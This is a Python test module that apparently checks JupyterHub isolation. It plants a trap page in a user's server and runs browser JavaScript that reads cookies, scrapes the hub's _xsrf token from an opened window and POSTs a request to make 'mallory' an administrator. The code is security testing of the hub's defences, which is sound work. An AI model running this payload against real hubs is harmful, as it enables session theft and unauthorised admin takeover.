"""A page that a user's server sends to whoever opens it: it tries to act on the hub as them."""

from __future__ import annotations

import base64
import json

from tests.cloud.browser import Page

PAGE = "trap.html"
NEW_ADMIN = "mallory"
"""Whom the page wants to have added, as an administrator."""

_CONFIGURATION = "c.ServerApp.extra_static_paths = ['/home/{name}/trap']\n"
_SCRIPT = """\
async hub => {
    const found = {}, body = JSON.stringify({usernames: ["mallory"], admin: true});
    const add = {method: "POST", body, credentials: "include"};
    const attempt = async (name, act) => {
        try { found[name] = String(await act()); } catch (problem) { found[name] = problem.name; }
    };
    const text = async address => (await fetch(address, {credentials: "include"})).text();
    await attempt("cookies", () => document.cookie);
    await attempt("page", () => text(hub + "/hub/admin"));
    await attempt("api", () => text(hub + "/hub/api/users"));
    await attempt("here", async () => (await fetch("/hub/api/users")).status);
    const opened = open(hub + "/hub/admin");
    for (let tries = 0; tries < 40 && found.window === undefined; tries += 1) {
        await new Promise(wake => setTimeout(wake, 500));
        // Until it has gone there, it shows an empty page of this very origin.
        const token = () => opened.document.cookie.match(/_xsrf=([^;]+)/)[1];
        await attempt("window", () => opened.location.href === "about:blank" ? undefined : token());
        if (found.window === "undefined" || found.window === "TypeError") delete found.window;
    }
    await fetch(hub + "/hub/api/users", {...add, mode: "no-cors"}).catch(() => null);
    await attempt("added", async () => {
        opened.document;
        const headers = {"X-XSRFToken": found.window, "Content-Type": "application/json"};
        return (await opened.fetch("/hub/api/users", {...add, headers})).status;
    });
    return found;
}
"""


def lay(name: str) -> str:
    """Root's commands to put it into a user's home before the server starts; the user can do the same."""
    home = f"/home/{name}"
    page, configuration = (
        base64.b64encode(text.encode()).decode()
        for text in ("<title>trap</title>", _CONFIGURATION.format(name=name))
    )
    return (
        f"mkdir -p {home}/trap {home}/.jupyter && echo {page} | base64 -d > {home}/trap/{PAGE}"
        f" && echo {configuration} | base64 -d > {home}/.jupyter/jupyter_server_config.py"
        f" && chown -R {name}: {home}/trap {home}/.jupyter"
    )


def spring(page: Page, hub: str) -> dict[str, str]:
    """What it gets in the browser that shows it, by what it tries; the name of the error where the browser
    does not let it.
    """
    expression = f"({_SCRIPT})({json.dumps(hub)})"
    answer = page.call(
        "Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True, userGesture=True
    )
    assert "exceptionDetails" not in answer, answer
    found: dict[str, str] = answer["result"]["value"]
    return found
